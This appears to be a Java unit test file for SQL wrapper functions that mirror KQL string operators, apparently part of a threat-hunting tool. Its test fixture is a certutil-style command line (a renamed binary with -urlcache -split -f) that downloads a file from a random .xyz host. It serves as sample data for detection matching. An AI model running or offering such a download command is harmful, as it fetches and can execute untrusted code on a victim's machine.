package dev.bazahunt.sql;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The SQL wrappers pass their arguments to KqlOperators unchanged, nulls included. */
class KqlFunctionsTest {

    private static final String DOWNLOAD = "x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php";

    @Test
    void everyFunctionIsRegisteredUnderItsKqlName() {
        assertThat(KqlFunctions.FUNCTIONS).containsOnlyKeys(
                "KQL_HAS", "KQL_HAS_ALL", "KQL_HAS_ANY", "KQL_EQUALS_CI", "KQL_NOT_EQUALS_CI", "KQL_CONTAINS");
    }

    @Test
    void wrappersEvaluateLikeTheOperators() {
        assertThat(new KqlHas().eval(DOWNLOAD, "http")).isTrue();
        assertThat(new KqlHas().eval(DOWNLOAD.replace("http:", "https:"), "http")).isFalse();
        assertThat(new KqlHasAll().eval(DOWNLOAD, "-urlcache", "split", "http")).isTrue();
        assertThat(new KqlHasAll().eval(null, "-urlcache")).isFalse();
        assertThat(new KqlHasAny().eval(DOWNLOAD, "ftp", "split")).isTrue();
        assertThat(new KqlEqualsCi().eval("CERTUTIL.EXE", "certutil.exe")).isTrue();
        assertThat(new KqlNotEqualsCi().eval(null, "cmd.exe")).isTrue();
        assertThat(new KqlContains().eval("FabriKam", "BRik")).isTrue();
    }
}
